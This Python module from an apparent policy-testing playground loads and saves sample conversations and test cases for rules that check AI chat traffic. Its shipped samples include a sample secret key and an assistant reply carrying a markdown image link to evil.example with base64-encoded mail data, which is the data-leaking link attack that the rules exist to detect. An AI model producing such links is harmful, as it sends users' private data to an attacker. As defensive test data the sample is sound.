"""Loading and saving the page's content: a project's directory, and samples. Spec: playground.md [PLAY-6] ff."""

from __future__ import annotations

import importlib.resources
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

from cmf.errors import CmfError
from cmf.json.codec import MAX_BYTES, loads
from pipeline.authoring.case import read_cases, spelled_cases, yaml_text
from pipeline.authoring.playground.evaluation import Evaluator, Json
from pipeline.authoring.playground.state import CASE_FORMAT, PolicyFile, State, spelled_case
from pipeline.authoring.run_cases import CaseRunner
from pipeline.decisions.display import escaped_json, visible
from pipeline.decisions.errors import CaseError, ConfigError
from pipeline.policy import policy_set
from pipeline.policy.loading import DATA_FILES

TEMPLATES: Final = ("tools", "pii", "mcp", "empty")
MAX_SAMPLES: Final = 200
MAX_NAME: Final = 120  # characters of a case's name


@dataclass(frozen=True, slots=True, kw_only=True)
class Project:
    """A project as `cmf test DIR` reads it: policies in `policies`, cases in `directory`/cases."""

    directory: Path
    policies: Path

    @classmethod
    def at(cls, directory: Path) -> Project:
        """The project in `directory`, with its policies in `policy` or in the directory itself."""
        inner = directory / "policy"
        return cls(directory=directory, policies=inner if inner.is_dir() else directory)

    def files(self) -> tuple[PolicyFile, ...]:
        """The project's policies without their tests. ConfigError: there are none, or a file is not text."""
        if not self.policies.is_dir():
            raise ConfigError("no such directory", path=str(self.policies), hint="name a project or its policies")
        if not (files := _policy_files(self.policies)):
            raise ConfigError("no policies found", path=str(self.policies), hint="put a .rego file there")
        return files


def samples(project: Project | None) -> list[Json]:
    """The samples of the page: the project's cases, the templates of `cmf init`, the shipped rules, examples."""
    listed: list[Json] = []
    if project is not None:
        files = project.files()
        listed.append(_sample("Project", project.directory.resolve().name, State(files=files, conversation=_HELLO)))
        listed += _cases("Project", project.directory / "cases", files)
    templates = Path(str(importlib.resources.files("pipeline").joinpath("templates")))
    for name in TEMPLATES:
        files = _policy_files(templates / name / "policy")
        listed += _cases(f"Template {name}", templates / name / "cases", files, beside=templates / "common" / "cases")
    shipped = (PolicyFile(path="cmf/defaults/data.json", text="{}\n"),)
    for name, text in _SHIPPED_SAMPLES.items():
        listed.append(_sample("Shipped rules", name, State(files=shipped, conversation=text)))
    listed += _examples(policy_set.shipped().parent / "examples")
    return listed[:MAX_SAMPLES]


_HELLO: Final = "- {role: user, text: hello}\n"
_SHIPPED_SAMPLES: Final = {
    "a secret in a prompt": "- {role: user, text: my key is AKIAIOSFODNN7EXAMPLE}\n",
    "a link that carries data away": (
        "- {role: user, text: summarise my mail}\n"
        '- {role: assistant, text: "![done](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgZnJvbSBtYWls)"}\n'
    ),
}


def _examples(folder: Path) -> Iterator[Json]:
    """The example requests, in a checkout."""
    if not (folder / "requests").is_dir():
        return
    files = _policy_files(folder / "policies")
    context = loads((folder / "context.json").read_bytes())
    spelled = {"subject": context.pop("subject"), "context": context}
    for path in sorted((folder / "requests").glob("*.json")):
        wire = next((name for name in ("openai_chat", "anthropic_messages") if path.name.startswith(name)), None)
        if wire is not None:
            text = path.read_text(encoding="utf-8")
            state = State(files=files, format=wire, conversation=text, context=yaml_text(spelled))
            yield _sample("Examples", path.stem, state)


def _sample(group: str, name: str, state: State) -> Json:
    return {"group": group, "name": visible(name), "state": state.to_json()}


def _policy_files(directory: Path) -> tuple[PolicyFile, ...]:
    found = []
    for path in sorted(directory.rglob("*")):
        place = path.relative_to(directory)
        is_policy = path.suffix == ".rego" and not path.name.endswith("_test.rego")
        if (is_policy or path.name in DATA_FILES) and not any(part.startswith(".") for part in place.parts):
            found.append(PolicyFile(path=place.as_posix(), text=_text(path)))
    return tuple(found)


def _text(path: Path) -> str:
    try:
        with path.open("rb") as stream:
            return stream.read(MAX_BYTES).decode("utf-8")
    except (OSError, UnicodeDecodeError):
        raise ConfigError("cannot be read as text", path=str(path), hint="check it") from None


def _cases(group: str, folder: Path, files: tuple[PolicyFile, ...], beside: Path | None = None) -> Iterator[Json]:
    """The cases in a folder as page states; unsupported cases are left out."""
    for path in sorted([*folder.rglob("*.yaml"), *folder.rglob("*.yml")]):
        try:
            for _, name, spelled in spelled_cases(path):
                state = _held(spelled, files, (path.parent, beside))
                if state is not None:
                    yield _sample(group, name, state)
        except CaseError:
            continue  # `cmf test` reports what is wrong with it


def _held(spelled: Mapping[str, Any], files: tuple[PolicyFile, ...], folders: tuple[Path | None, ...]) -> State | None:
    """A case as a page state."""
    if "profiles" in spelled:
        return None
    context = {key: spelled[key] for key in ("subject", "context", "session", "history") if spelled.get(key)}
    shown = yaml_text(context) if context else ""
    conversation = spelled.get("conversation")
    if not isinstance(conversation, dict):
        messages = {key: spelled[key] for key in ("model", "tools", "conversation", "reply") if spelled.get(key)}
        body = messages["conversation"] if messages.keys() == {"conversation"} else messages
        return State(files=files, format=CASE_FORMAT, conversation=yaml_text(body), context=shown)
    if "reply" in spelled:
        return None
    wire, kind = str(conversation.get("from")), str(conversation.get("kind", "request"))
    body = conversation.get("body") or _wire_file(str(conversation.get("file")), folders)
    return State(files=files, format=wire, kind=kind, conversation=escaped_json(body), context=shown)


def _wire_file(name: str, folders: tuple[Path | None, ...]) -> Any:
    path = next((folder / name for folder in folders if folder is not None and (folder / name).is_file()), None)
    try:
        return loads(_text(path).encode()) if path is not None else {}
    except CmfError:
        return {}


# -- saving ------------------------------------------------------------------------------------------------------------


def save(project: Project, name: str, state: State, evaluator: Evaluator) -> Json:
    """Save the state as a case of the project that expects the current decision.

    Returns:
        Its file, and the `problems` that `cmf test` will report, such as policies that differ from the project's.

    Raises:
        ConfigError: an invalid name, a state that cannot be judged, a directory that cannot be written.
        PaneError: as `spelled_case`.
    """
    if not name.strip() or len(name) > MAX_NAME or visible(name) != name:
        raise ConfigError("not a name for a case", hint=f"write 1 to {MAX_NAME} visible characters")
    answer = evaluator.evaluate(state)
    if answer["problems"]:
        raise ConfigError("a state with errors cannot be saved", hint="correct the marked errors first")
    rules = sorted({hit["rule"] for view in answer["views"] for hit in view["hits"]})
    expected = {"verdict": answer["verdict"], "action": answer["action"], "rules": rules}
    path = _written(project.directory / "cases", name, {"name": name, **spelled_case(state), "expect": expected})
    runner = CaseRunner(project.policies)
    try:
        problems = [problem for case in read_cases(path) for problem in runner.run(case).problems]
    finally:
        runner.close()
    return {"file": path.relative_to(project.directory).as_posix(), "problems": [*map(visible, problems)]}


def _written(folder: Path, name: str, case: Mapping[str, Any]) -> Path:
    """Write a new file and return it; existing files are never overwritten."""
    stem = re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-")[:60] or "case"
    text = yaml_text({"cases": [case]})
    try:
        folder.mkdir(parents=True, exist_ok=True)
        for number in range(1, 1000):
            path = folder / (f"{stem}.yaml" if number == 1 else f"{stem}-{number}.yaml")
            try:
                with path.open("x", encoding="utf-8") as stream:
                    stream.write(text)
            except FileExistsError:
                continue
            return path
    except OSError as error:
        hint = "choose another directory"
        raise ConfigError(f"cannot be written: {error.strerror}", path=str(folder), hint=hint) from None
    raise ConfigError("there are too many cases of this name", path=str(folder), hint="choose another name")
